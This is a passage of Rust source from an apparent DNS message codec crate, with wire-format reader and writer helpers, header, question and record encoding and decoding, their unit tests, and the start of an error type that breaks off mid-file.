        let rtype = RecordType::from_u16(r.read_u16("record type")?);
        let class = RecordClass::from_u16(r.read_u16("record class")?);
        let ttl = r.read_u32("record ttl")?;
        let rdlen = r.read_u16("record rdlength")? as usize;
        let rd_start = r.position();
        if r.remaining() < rdlen {
            return Err(DnsError::Truncated {
                context: "record rdata",
            });
        }
        let data = Self::decode_rdata(r, rtype, rdlen)?;
        // Names inside RDATA may use compression; ensure we end exactly at
        // the RDATA boundary regardless.
        r.seek(rd_start + rdlen)?;
        Ok(Record {
            name,
            rtype,
            class,
            ttl,
            data,
        })
    }

    fn decode_rdata(
        r: &mut WireReader<'_>,
        rtype: RecordType,
        rdlen: usize,
    ) -> Result<RecordData, DnsError> {
        match rtype {
            RecordType::A => {
                if rdlen != 4 {
                    return Err(DnsError::BadRdata {
                        rtype: rtype.to_u16(),
                        detail: "A rdata must be 4 bytes",
                    });
                }
                let b = r.read_bytes(4, "A rdata")?;
                Ok(RecordData::A(Ipv4Addr::new(b[0], b[1], b[2], b[3])))
            }
            RecordType::Aaaa => {
                if rdlen != 16 {
                    return Err(DnsError::BadRdata {
                        rtype: rtype.to_u16(),
                        detail: "AAAA rdata must be 16 bytes",
                    });
                }
                let b = r.read_bytes(16, "AAAA rdata")?;
                let mut oct = [0u8; 16];
                oct.copy_from_slice(b);
                Ok(RecordData::Aaaa(Ipv6Addr::from(oct)))
            }
            RecordType::Cname => Ok(RecordData::Cname(Name::decode(r)?)),
            RecordType::Ns => Ok(RecordData::Ns(Name::decode(r)?)),
            RecordType::Ptr => Ok(RecordData::Ptr(Name::decode(r)?)),
            RecordType::Mx => {
                let preference = r.read_u16("MX preference")?;
                let exchange = Name::decode(r)?;
                Ok(RecordData::Mx {
                    preference,
                    exchange,
                })
            }
            RecordType::Txt => {
                let mut strings = Vec::new();
                let end = r.position() + rdlen;
                while r.position() < end {
                    let len = r.read_u8("TXT string length")? as usize;
                    if r.position() + len > end {
                        return Err(DnsError::BadRdata {
                            rtype: rtype.to_u16(),
                            detail: "txt string overruns rdata",
                        });
                    }
                    strings.push(r.read_bytes(len, "TXT string")?.to_vec());
                }
                Ok(RecordData::Txt(strings))
            }
            RecordType::Soa => {
                let mname = Name::decode(r)?;
                let rname = Name::decode(r)?;
                Ok(RecordData::Soa {
                    mname,
                    rname,
                    serial: r.read_u32("SOA serial")?,
                    refresh: r.read_u32("SOA refresh")?,
                    retry: r.read_u32("SOA retry")?,
                    expire: r.read_u32("SOA expire")?,
                    minimum: r.read_u32("SOA minimum")?,
                })
            }
            RecordType::Other(_) => Ok(RecordData::Opaque(
                r.read_bytes(rdlen, "opaque rdata")?.to_vec(),
            )),
        }
    }
}

impl fmt::Display for Record {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} {} {} {}",
            self.name, self.ttl, self.class, self.rtype
        )?;
        match &self.data {
            RecordData::A(ip) => write!(f, " {ip}"),
            RecordData::Aaaa(ip) => write!(f, " {ip}"),
            RecordData::Cname(n) | RecordData::Ns(n) | RecordData::Ptr(n) => write!(f, " {n}"),
            RecordData::Mx {
                preference,
                exchange,
            } => write!(f, " {preference} {exchange}"),
            RecordData::Txt(strings) => {
                for s in strings {
                    write!(f, " \"{}\"", String::from_utf8_lossy(s))?;
                }
                Ok(())
            }
            RecordData::Soa {
                mname,
                rname,
                serial,
                ..
            } => {
                write!(f, " {mname} {rname} {serial}")
            }
            RecordData::Opaque(b) => write!(f, " \\# {}", b.len()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(rec: &Record) -> Record {
        let mut w = WireWriter::new();
        rec.encode(&mut w, &mut HashMap::new()).unwrap();
        let bytes = w.into_bytes();
        let mut r = WireReader::new(&bytes);
        let back = Record::decode(&mut r).unwrap();
        assert!(r.is_empty(), "reader must land on the record boundary");
        back
    }

    #[test]
    fn a_record_roundtrip() {
        let rec = Record::new(
            Name::parse("host.example").unwrap(),
            300,
            RecordData::A(Ipv4Addr::new(10, 1, 2, 3)),
        );
        assert_eq!(roundtrip(&rec), rec);
        assert_eq!(rec.rtype(), RecordType::A);
    }

    #[test]
    fn aaaa_record_roundtrip() {
        let rec = Record::new(
            Name::parse("v6.example").unwrap(),
            60,
            RecordData::Aaaa("2001:db8::1".parse().unwrap()),
        );
        assert_eq!(roundtrip(&rec), rec);
    }

    #[test]
    fn cname_mx_txt_soa_roundtrip() {
        let recs = vec![
            Record::new(
                Name::parse("alias.example").unwrap(),
                1,
                RecordData::Cname(Name::parse("real.example").unwrap()),
            ),
            Record::new(
                Name::parse("example").unwrap(),
                1,
                RecordData::Mx {
                    preference: 10,
                    exchange: Name::parse("mx.example").unwrap(),
                },
            ),
            Record::new(
                Name::parse("example").unwrap(),
                1,
                RecordData::Txt(vec![b"hello".to_vec(), b"world".to_vec()]),
            ),
            Record::new(
                Name::parse("example").unwrap(),
                1,
                RecordData::Soa {
                    mname: Name::parse("ns1.example").unwrap(),
                    rname: Name::parse("admin.example").unwrap(),
                    serial: 2024,
                    refresh: 7200,
                    retry: 600,
                    expire: 86400,
                    minimum: 300,
                },
            ),
        ];
        for rec in recs {
            assert_eq!(roundtrip(&rec), rec);
        }
    }

    #[test]
    fn opaque_roundtrip() {
        let rec = Record::with_parts(
            Name::parse("x").unwrap(),
            RecordType::Other(999),
            RecordClass::In,
            0,
            RecordData::Opaque(vec![1, 2, 3, 4, 5]),
        );
        assert_eq!(roundtrip(&rec), rec);
    }

    #[test]
    fn a_record_with_wrong_rdlen_rejected() {
        // Hand-build: name "a", type A, class IN, ttl 0, rdlen 3.
        let bytes = [1, b'a', 0, 0, 1, 0, 1, 0, 0, 0, 0, 0, 3, 9, 9, 9];
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Record::decode(&mut r),
            Err(DnsError::BadRdata { .. })
        ));
    }

    #[test]
    fn rdata_truncation_rejected() {
        // rdlen promises 4 but only 2 bytes remain.
        let bytes = [1, b'a', 0, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, 9, 9];
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Record::decode(&mut r),
            Err(DnsError::Truncated {
                context: "record rdata"
            })
        ));
    }

    #[test]
    fn connman_caches_only_a_and_aaaa() {
        assert!(RecordType::A.is_cached_by_connman());
        assert!(RecordType::Aaaa.is_cached_by_connman());
        assert!(!RecordType::Cname.is_cached_by_connman());
        assert!(!RecordType::Txt.is_cached_by_connman());
    }

    #[test]
    fn type_class_wire_values_roundtrip() {
        for v in [1u16, 2, 5, 6, 12, 15, 16, 28, 77] {
            assert_eq!(RecordType::from_u16(v).to_u16(), v);
        }
        for v in [1u16, 3, 4, 255, 42] {
            assert_eq!(RecordClass::from_u16(v).to_u16(), v);
        }
    }

    #[test]
    fn display_forms() {
        let rec = Record::new(
            Name::parse("h.e").unwrap(),
            30,
            RecordData::A(Ipv4Addr::new(1, 2, 3, 4)),
        );
        assert_eq!(rec.to_string(), "h.e 30 IN A 1.2.3.4");
    }
}
