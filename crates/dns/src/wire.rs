//! Low-level byte cursor helpers shared by the codec.

use crate::DnsError;

/// A bounds-checked reader over a DNS message buffer.
///
/// All multi-byte reads are big-endian, per RFC 1035 §2.3.2. The reader
/// keeps the *whole* message visible so that name decompression can seek
/// backwards to pointer targets.
#[derive(Debug, Clone)]
pub struct WireReader<'a> {
    buf: &'a [u8],
    pos: usize,
}

impl<'a> WireReader<'a> {
    /// Creates a reader positioned at the start of `buf`.
    pub fn new(buf: &'a [u8]) -> Self {
        WireReader { buf, pos: 0 }
    }

    /// Current cursor offset from the start of the message.
    pub fn position(&self) -> usize {
        self.pos
    }

    /// Moves the cursor to an absolute offset.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] if `pos` is past the end of the
    /// buffer.
    pub fn seek(&mut self, pos: usize) -> Result<(), DnsError> {
        if pos > self.buf.len() {
            return Err(DnsError::Truncated {
                context: "seek target",
            });
        }
        self.pos = pos;
        Ok(())
    }

    /// Number of unread bytes.
    pub fn remaining(&self) -> usize {
        self.buf.len() - self.pos
    }

    /// Whether the cursor has consumed every byte.
    pub fn is_empty(&self) -> bool {
        self.remaining() == 0
    }

    /// The full underlying message (used by decompression).
    pub fn message(&self) -> &'a [u8] {
        self.buf
    }

    /// Reads one byte.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] at end of input.
    pub fn read_u8(&mut self, context: &'static str) -> Result<u8, DnsError> {
        let b = *self
            .buf
            .get(self.pos)
            .ok_or(DnsError::Truncated { context })?;
        self.pos += 1;
        Ok(b)
    }

    /// Reads a big-endian `u16`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] at end of input.
    pub fn read_u16(&mut self, context: &'static str) -> Result<u16, DnsError> {
        let hi = self.read_u8(context)? as u16;
        let lo = self.read_u8(context)? as u16;
        Ok(hi << 8 | lo)
    }

    /// Reads a big-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] at end of input.
    pub fn read_u32(&mut self, context: &'static str) -> Result<u32, DnsError> {
        let hi = self.read_u16(context)? as u32;
        let lo = self.read_u16(context)? as u32;
        Ok(hi << 16 | lo)
    }

    /// Reads exactly `len` bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] if fewer than `len` bytes remain.
    pub fn read_bytes(&mut self, len: usize, context: &'static str) -> Result<&'a [u8], DnsError> {
        if self.remaining() < len {
            return Err(DnsError::Truncated { context });
        }
        let out = &self.buf[self.pos..self.pos + len];
        self.pos += len;
        Ok(out)
    }
}

/// A growable writer that assembles a DNS message.
///
/// All multi-byte writes are big-endian. The writer enforces an optional
/// size ceiling so encoders can fail early instead of emitting messages
/// the transport would drop.
#[derive(Debug, Clone)]
pub struct WireWriter {
    buf: Vec<u8>,
    limit: Option<usize>,
}

impl Default for WireWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl WireWriter {
    /// Creates an unbounded writer.
    pub fn new() -> Self {
        WireWriter {
            buf: Vec::with_capacity(128),
            limit: None,
        }
    }

    /// Creates a writer that refuses to grow past `limit` bytes.
    pub fn with_limit(limit: usize) -> Self {
        WireWriter {
            buf: Vec::with_capacity(limit.min(1024)),
            limit: Some(limit),
        }
    }

    /// Creates an unbounded writer on top of an existing buffer: the
    /// buffer is cleared but its capacity is kept, so a warm buffer
    /// makes the whole encode allocation-free. Recover the bytes with
    /// [`into_bytes`](Self::into_bytes).
    pub fn from_vec(mut buf: Vec<u8>) -> Self {
        buf.clear();
        WireWriter { buf, limit: None }
    }

    /// [`from_vec`](Self::from_vec) with a size ceiling.
    pub fn from_vec_with_limit(mut buf: Vec<u8>, limit: usize) -> Self {
        buf.clear();
        WireWriter {
            buf,
            limit: Some(limit),
        }
    }

    /// Bytes written so far.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing has been written yet.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Consumes the writer and returns the assembled message.
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf
    }

    /// A view of the bytes written so far.
    pub fn as_bytes(&self) -> &[u8] {
        &self.buf
    }

    fn check(&self, extra: usize) -> Result<(), DnsError> {
        if let Some(limit) = self.limit {
            let need = self.buf.len() + extra;
            if need > limit {
                return Err(DnsError::MessageTooLarge { need, limit });
            }
        }
        Ok(())
    }

    /// Appends one byte.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the ceiling would be
    /// exceeded.
    pub fn write_u8(&mut self, v: u8) -> Result<(), DnsError> {
        self.check(1)?;
        self.buf.push(v);
        Ok(())
    }

    /// Appends a big-endian `u16`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the ceiling would be
    /// exceeded.
    pub fn write_u16(&mut self, v: u16) -> Result<(), DnsError> {
        self.check(2)?;
        self.buf.extend_from_slice(&v.to_be_bytes());
        Ok(())
    }

    /// Appends a big-endian `u32`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the ceiling would be
    /// exceeded.
    pub fn write_u32(&mut self, v: u32) -> Result<(), DnsError> {
        self.check(4)?;
        self.buf.extend_from_slice(&v.to_be_bytes());
        Ok(())
    }

    /// Appends raw bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the ceiling would be
    /// exceeded.
    pub fn write_bytes(&mut self, v: &[u8]) -> Result<(), DnsError> {
        self.check(v.len())?;
        self.buf.extend_from_slice(v);
        Ok(())
    }

    /// Overwrites the big-endian `u16` at `offset` (used to patch counts
    /// after the fact).
    ///
    /// # Panics
    ///
    /// Panics if `offset + 2` exceeds the written length; this indicates a
    /// bug in the encoder, not bad input.
    pub fn patch_u16(&mut self, offset: usize, v: u16) {
        let bytes = v.to_be_bytes();
        self.buf[offset] = bytes[0];
        self.buf[offset + 1] = bytes[1];
    }
}

/// A reusable wire-serialization buffer.
///
/// Thin wrapper over `Vec<u8>` whose point is the *protocol*: encoders
/// take `&mut WireBuf` and replace its contents while keeping its
/// capacity, so a warm buffer is filled with zero heap allocations.
/// Pair with [`BufPool`] to recycle buffers across packets.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct WireBuf {
    buf: Vec<u8>,
}

impl WireBuf {
    /// An empty buffer.
    pub fn new() -> Self {
        WireBuf::default()
    }

    /// An empty buffer with `cap` bytes preallocated.
    pub fn with_capacity(cap: usize) -> Self {
        WireBuf {
            buf: Vec::with_capacity(cap),
        }
    }

    /// Wraps an existing vector (contents preserved).
    pub fn from_vec(buf: Vec<u8>) -> Self {
        WireBuf { buf }
    }

    /// Unwraps into the underlying vector.
    pub fn into_vec(self) -> Vec<u8> {
        self.buf
    }

    /// Bytes currently held.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether the buffer holds no bytes.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// The current contents.
    pub fn as_bytes(&self) -> &[u8] {
        &self.buf
    }

    /// Clears the contents, keeping capacity.
    pub fn clear(&mut self) {
        self.buf.clear();
    }

    /// Direct access to the underlying vector (encoders use this to
    /// move the storage into a [`WireWriter`] and back).
    pub fn as_mut_vec(&mut self) -> &mut Vec<u8> {
        &mut self.buf
    }
}

/// A free-list of [`WireBuf`]s.
///
/// `checkout` hands out a cleared buffer (reusing a returned one when
/// available), `checkin` returns it. Steady state — every checkout
/// matched by a checkin — performs no heap allocation once the pooled
/// buffers have grown to the working-set packet size.
#[derive(Debug, Clone, Default)]
pub struct BufPool {
    free: Vec<WireBuf>,
}

impl BufPool {
    /// An empty pool.
    pub fn new() -> Self {
        BufPool::default()
    }

    /// Takes a cleared buffer from the pool, or a fresh one if none are
    /// free.
    pub fn checkout(&mut self) -> WireBuf {
        match self.free.pop() {
            Some(mut b) => {
                b.clear();
                b
            }
            None => WireBuf::new(),
        }
    }

    /// Returns a buffer to the pool for reuse.
    pub fn checkin(&mut self, buf: WireBuf) {
        self.free.push(buf);
    }

    /// Number of idle buffers.
    pub fn available(&self) -> usize {
        self.free.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reader_roundtrips_scalars() {
        let data = [0x12, 0x34, 0x56, 0x78, 0x9a, 0xbc, 0xde];
        let mut r = WireReader::new(&data);
        assert_eq!(r.read_u8("a").unwrap(), 0x12);
        assert_eq!(r.read_u16("b").unwrap(), 0x3456);
        assert_eq!(r.read_u32("c").unwrap(), 0x789a_bcde);
        assert!(r.is_empty());
    }

    #[test]
    fn reader_reports_truncation_with_context() {
        let mut r = WireReader::new(&[0x01]);
        assert_eq!(r.read_u8("x").unwrap(), 1);
        assert_eq!(
            r.read_u16("hdr"),
            Err(DnsError::Truncated { context: "hdr" })
        );
    }

    #[test]
    fn reader_seek_bounds() {
        let mut r = WireReader::new(&[0, 1, 2]);
        r.seek(3).unwrap();
        assert!(r.is_empty());
        assert!(r.seek(4).is_err());
    }

    #[test]
    fn reader_read_bytes_exact() {
        let mut r = WireReader::new(&[1, 2, 3, 4]);
        assert_eq!(r.read_bytes(3, "x").unwrap(), &[1, 2, 3]);
        assert!(r.read_bytes(2, "x").is_err());
        assert_eq!(r.remaining(), 1);
    }

    #[test]
    fn writer_respects_limit() {
        let mut w = WireWriter::with_limit(3);
        w.write_u16(0xaabb).unwrap();
        assert_eq!(
            w.write_u16(0xccdd),
            Err(DnsError::MessageTooLarge { need: 4, limit: 3 })
        );
        w.write_u8(0xee).unwrap();
        assert_eq!(w.into_bytes(), vec![0xaa, 0xbb, 0xee]);
    }

    #[test]
    fn writer_patch_u16() {
        let mut w = WireWriter::new();
        w.write_u32(0).unwrap();
        w.patch_u16(2, 0xbeef);
        assert_eq!(w.as_bytes(), &[0, 0, 0xbe, 0xef]);
    }

    #[test]
    fn writer_big_endian() {
        let mut w = WireWriter::new();
        w.write_u16(0x0102).unwrap();
        w.write_u32(0x0304_0506).unwrap();
        assert_eq!(w.into_bytes(), vec![1, 2, 3, 4, 5, 6]);
    }

    #[test]
    fn writer_from_vec_keeps_capacity() {
        let mut v = vec![9u8; 64];
        let cap = v.capacity();
        v.truncate(64);
        let mut w = WireWriter::from_vec(v);
        assert!(w.is_empty());
        w.write_u16(0xbeef).unwrap();
        let out = w.into_bytes();
        assert_eq!(out, vec![0xbe, 0xef]);
        assert_eq!(out.capacity(), cap);
    }

    #[test]
    fn from_vec_with_limit_still_enforces_ceiling() {
        let mut w = WireWriter::from_vec_with_limit(Vec::with_capacity(16), 2);
        w.write_u16(1).unwrap();
        assert!(w.write_u8(0).is_err());
    }

    #[test]
    fn pool_reuses_returned_buffers() {
        let mut pool = BufPool::new();
        let mut b = pool.checkout();
        b.as_mut_vec().extend_from_slice(&[1, 2, 3]);
        let ptr = b.as_bytes().as_ptr();
        pool.checkin(b);
        assert_eq!(pool.available(), 1);
        let b2 = pool.checkout();
        assert!(b2.is_empty(), "checked-out buffers are cleared");
        assert_eq!(b2.as_bytes().as_ptr(), ptr, "same allocation reused");
        assert_eq!(pool.available(), 0);
    }
}
