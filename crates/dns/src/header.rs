//! The 12-byte DNS message header (RFC 1035 §4.1.1).

use std::fmt;

use crate::wire::{WireReader, WireWriter};
use crate::DnsError;

/// Query/operation kind carried in the header's OPCODE field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Opcode {
    /// Standard query (the only kind the proxy forwards).
    Query,
    /// Inverse query (obsolete).
    IQuery,
    /// Server status request.
    Status,
    /// A value outside the three assigned ones.
    Other(u8),
}

impl Opcode {
    /// Numeric wire value.
    pub fn to_u8(self) -> u8 {
        match self {
            Opcode::Query => 0,
            Opcode::IQuery => 1,
            Opcode::Status => 2,
            Opcode::Other(v) => v & 0x0F,
        }
    }

    /// Decodes the 4-bit wire value.
    pub fn from_u8(v: u8) -> Self {
        match v & 0x0F {
            0 => Opcode::Query,
            1 => Opcode::IQuery,
            2 => Opcode::Status,
            other => Opcode::Other(other),
        }
    }
}

/// Response code carried in the header's RCODE field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Rcode {
    /// No error.
    NoError,
    /// The query was malformed.
    FormErr,
    /// The server failed internally.
    ServFail,
    /// The name does not exist.
    NxDomain,
    /// The server does not implement the request.
    NotImp,
    /// The server refused the request.
    Refused,
    /// A value outside the assigned ones.
    Other(u8),
}

impl Rcode {
    /// Numeric wire value.
    pub fn to_u8(self) -> u8 {
        match self {
            Rcode::NoError => 0,
            Rcode::FormErr => 1,
            Rcode::ServFail => 2,
            Rcode::NxDomain => 3,
            Rcode::NotImp => 4,
            Rcode::Refused => 5,
            Rcode::Other(v) => v & 0x0F,
        }
    }

    /// Decodes the 4-bit wire value.
    pub fn from_u8(v: u8) -> Self {
        match v & 0x0F {
            0 => Rcode::NoError,
            1 => Rcode::FormErr,
            2 => Rcode::ServFail,
            3 => Rcode::NxDomain,
            4 => Rcode::NotImp,
            5 => Rcode::Refused,
            other => Rcode::Other(other),
        }
    }
}

impl fmt::Display for Rcode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Rcode::NoError => "NOERROR",
            Rcode::FormErr => "FORMERR",
            Rcode::ServFail => "SERVFAIL",
            Rcode::NxDomain => "NXDOMAIN",
            Rcode::NotImp => "NOTIMP",
            Rcode::Refused => "REFUSED",
            Rcode::Other(v) => return write!(f, "RCODE{v}"),
        };
        f.write_str(s)
    }
}

/// Decoded DNS header with section counts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Header {
    /// Transaction identifier chosen by the querier.
    pub id: u16,
    /// `true` for responses, `false` for queries (QR bit).
    pub response: bool,
    /// Operation kind.
    pub opcode: Opcode,
    /// Authoritative-answer bit.
    pub authoritative: bool,
    /// Truncation bit.
    pub truncated: bool,
    /// Recursion-desired bit.
    pub recursion_desired: bool,
    /// Recursion-available bit.
    pub recursion_available: bool,
    /// Response code.
    pub rcode: Rcode,
    /// Number of entries in the question section.
    pub qdcount: u16,
    /// Number of entries in the answer section.
    pub ancount: u16,
    /// Number of entries in the authority section.
    pub nscount: u16,
    /// Number of entries in the additional section.
    pub arcount: u16,
}

impl Default for Header {
    fn default() -> Self {
        Header {
            id: 0,
            response: false,
            opcode: Opcode::Query,
            authoritative: false,
            truncated: false,
            recursion_desired: true,
            recursion_available: false,
            rcode: Rcode::NoError,
            qdcount: 0,
            ancount: 0,
            nscount: 0,
            arcount: 0,
        }
    }
}

impl Header {
    /// Size of the header on the wire.
    pub const WIRE_LEN: usize = 12;

    /// Packs the flag fields into the second 16-bit word.
    pub fn flags_word(&self) -> u16 {
        let mut w = 0u16;
        if self.response {
            w |= 0x8000;
        }
        w |= (self.opcode.to_u8() as u16) << 11;
        if self.authoritative {
            w |= 0x0400;
        }
        if self.truncated {
            w |= 0x0200;
        }
        if self.recursion_desired {
            w |= 0x0100;
        }
        if self.recursion_available {
            w |= 0x0080;
        }
        w |= self.rcode.to_u8() as u16;
        w
    }

    /// Unpacks the second 16-bit word into flag fields (counts untouched).
    pub fn apply_flags_word(&mut self, w: u16) {
        self.response = w & 0x8000 != 0;
        self.opcode = Opcode::from_u8((w >> 11) as u8);
        self.authoritative = w & 0x0400 != 0;
        self.truncated = w & 0x0200 != 0;
        self.recursion_desired = w & 0x0100 != 0;
        self.recursion_available = w & 0x0080 != 0;
        self.rcode = Rcode::from_u8(w as u8);
    }

    /// Encodes the header.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode(&self, w: &mut WireWriter) -> Result<(), DnsError> {
        w.write_u16(self.id)?;
        w.write_u16(self.flags_word())?;
        w.write_u16(self.qdcount)?;
        w.write_u16(self.ancount)?;
        w.write_u16(self.nscount)?;
        w.write_u16(self.arcount)
    }

    /// Decodes a header from the reader.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::Truncated`] if fewer than 12 bytes remain.
    pub fn decode(r: &mut WireReader<'_>) -> Result<Self, DnsError> {
        let id = r.read_u16("header id")?;
        let flags = r.read_u16("header flags")?;
        let mut h = Header {
            id,
            qdcount: r.read_u16("header qdcount")?,
            ancount: r.read_u16("header ancount")?,
            nscount: r.read_u16("header nscount")?,
            arcount: r.read_u16("header arcount")?,
            ..Header::default()
        };
        h.apply_flags_word(flags);
        Ok(h)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn flags_word_roundtrip() {
        let mut h = Header {
            id: 7,
            response: true,
            opcode: Opcode::Status,
            authoritative: true,
            truncated: false,
            recursion_desired: true,
            recursion_available: true,
            rcode: Rcode::NxDomain,
            ..Header::default()
        };
        let word = h.flags_word();
        let mut h2 = Header {
            id: 7,
            ..Header::default()
        };
        h2.apply_flags_word(word);
        h.qdcount = 0;
        assert_eq!(h, h2);
    }

    #[test]
    fn encode_decode_roundtrip() {
        let h = Header {
            id: 0xBEEF,
            response: true,
            qdcount: 1,
            ancount: 2,
            nscount: 3,
            arcount: 4,
            ..Header::default()
        };
        let mut w = WireWriter::new();
        h.encode(&mut w).unwrap();
        let bytes = w.into_bytes();
        assert_eq!(bytes.len(), Header::WIRE_LEN);
        let mut r = WireReader::new(&bytes);
        assert_eq!(Header::decode(&mut r).unwrap(), h);
    }

    #[test]
    fn decode_truncated() {
        let mut r = WireReader::new(&[0; 5]);
        assert!(matches!(
            Header::decode(&mut r),
            Err(DnsError::Truncated { .. })
        ));
    }

    #[test]
    fn opcode_rcode_exhaustive() {
        for v in 0u8..16 {
            assert_eq!(Opcode::from_u8(v).to_u8(), v);
            assert_eq!(Rcode::from_u8(v).to_u8(), v);
        }
    }

    #[test]
    fn rcode_display() {
        assert_eq!(Rcode::NoError.to_string(), "NOERROR");
        assert_eq!(Rcode::Other(9).to_string(), "RCODE9");
    }
}
