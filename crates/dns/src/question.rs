//! The question section entry (RFC 1035 §4.1.2).

use std::collections::HashMap;
use std::fmt;

use crate::name::Name;
use crate::record::{RecordClass, RecordType};
use crate::wire::{WireReader, WireWriter};
use crate::DnsError;

/// One entry of the question section: the name, type and class being
/// asked about.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Question {
    qname: Name,
    qtype: RecordType,
    qclass: RecordClass,
}

impl Question {
    /// Creates an `IN`-class question.
    pub fn new(qname: Name, qtype: RecordType) -> Self {
        Question {
            qname,
            qtype,
            qclass: RecordClass::In,
        }
    }

    /// Creates a question with an explicit class.
    pub fn with_class(qname: Name, qtype: RecordType, qclass: RecordClass) -> Self {
        Question {
            qname,
            qtype,
            qclass,
        }
    }

    /// The queried name.
    pub fn qname(&self) -> &Name {
        &self.qname
    }

    /// The queried record type.
    pub fn qtype(&self) -> RecordType {
        self.qtype
    }

    /// The queried class.
    pub fn qclass(&self) -> RecordClass {
        self.qclass
    }

    /// Encodes the question, sharing name compression state.
    ///
    /// # Errors
    ///
    /// Propagates writer capacity errors.
    pub fn encode(
        &self,
        w: &mut WireWriter,
        offsets: &mut HashMap<Name, u16>,
    ) -> Result<(), DnsError> {
        self.qname.encode_compressed(w, offsets)?;
        w.write_u16(self.qtype.to_u16())?;
        w.write_u16(self.qclass.to_u16())
    }

    /// Decodes one question.
    ///
    /// # Errors
    ///
    /// Returns a [`DnsError`] on truncation or a malformed name.
    pub fn decode(r: &mut WireReader<'_>) -> Result<Self, DnsError> {
        let qname = Name::decode(r)?;
        let qtype = RecordType::from_u16(r.read_u16("question type")?);
        let qclass = RecordClass::from_u16(r.read_u16("question class")?);
        Ok(Question {
            qname,
            qtype,
            qclass,
        })
    }
}

impl fmt::Display for Question {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {} {}", self.qname, self.qclass, self.qtype)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let q = Question::new(Name::parse("a.b").unwrap(), RecordType::Aaaa);
        let mut w = WireWriter::new();
        q.encode(&mut w, &mut HashMap::new()).unwrap();
        let bytes = w.into_bytes();
        let mut r = WireReader::new(&bytes);
        assert_eq!(Question::decode(&mut r).unwrap(), q);
        assert!(r.is_empty());
    }

    #[test]
    fn display() {
        let q = Question::new(Name::parse("x.example").unwrap(), RecordType::A);
        assert_eq!(q.to_string(), "x.example IN A");
    }

    #[test]
    fn decode_truncated() {
        let bytes = [1, b'a', 0, 0]; // name then half a qtype
        let mut r = WireReader::new(&bytes);
        assert!(matches!(
            Question::decode(&mut r),
            Err(DnsError::Truncated { .. })
        ));
    }
}
