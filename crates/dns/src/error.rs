use std::error::Error;
use std::fmt;

/// Errors produced while building, encoding or decoding DNS data.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum DnsError {
    /// The input ended before a complete field could be read.
    Truncated {
        /// What was being decoded when the data ran out.
        context: &'static str,
    },
    /// A label exceeded the 63-byte limit of RFC 1035 §2.3.4.
    LabelTooLong(usize),
    /// A label was empty where a non-empty label is required.
    EmptyLabel,
    /// A complete name exceeded the 255-byte wire limit.
    NameTooLong(usize),
    /// A label contained a byte outside the permitted hostname alphabet.
    InvalidLabelByte(u8),
    /// A compression pointer referred at or past its own position.
    ForwardPointer {
        /// Pointer target offset.
        target: usize,
        /// Offset of the pointer itself.
        at: usize,
    },
    /// Too many compression pointers were chased for one name.
    PointerLimit(usize),
    /// A length prefix had the reserved `0b10`/`0b01` top bits.
    BadLabelType(u8),
    /// An unknown or unsupported record type appeared where a concrete
    /// one was required.
    UnsupportedType(u16),
    /// An RDATA section did not match the length implied by its type.
    BadRdata {
        /// Record type whose RDATA was malformed.
        rtype: u16,
        /// Explanation of the mismatch.
        detail: &'static str,
    },
    /// The message would exceed the configured output limit.
    MessageTooLarge {
        /// Size the encoder was asked to produce.
        need: usize,
        /// Configured ceiling.
        limit: usize,
    },
    /// Trailing bytes remained after a full message was decoded.
    TrailingBytes(usize),
    /// A count field in the header promised more entries than present.
    CountMismatch {
        /// Which section disagreed with its header count.
        section: &'static str,
    },
}

impl fmt::Display for DnsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DnsError::Truncated { context } => {
                write!(f, "input truncated while reading {context}")
            }
            DnsError::LabelTooLong(n) => write!(f, "label of {n} bytes exceeds 63-byte limit"),
            DnsError::EmptyLabel => write!(f, "empty label where content is required"),
            DnsError::NameTooLong(n) => write!(f, "name of {n} bytes exceeds 255-byte limit"),
            DnsError::InvalidLabelByte(b) => {
                write!(f, "byte {b:#04x} is not valid in a hostname label")
            }
            DnsError::ForwardPointer { target, at } => {
                write!(
                    f,
                    "compression pointer at {at} targets {target} (not strictly backward)"
                )
            }
            DnsError::PointerLimit(n) => {
                write!(f, "more than {n} compression pointers in one name")
            }
            DnsError::BadLabelType(b) => {
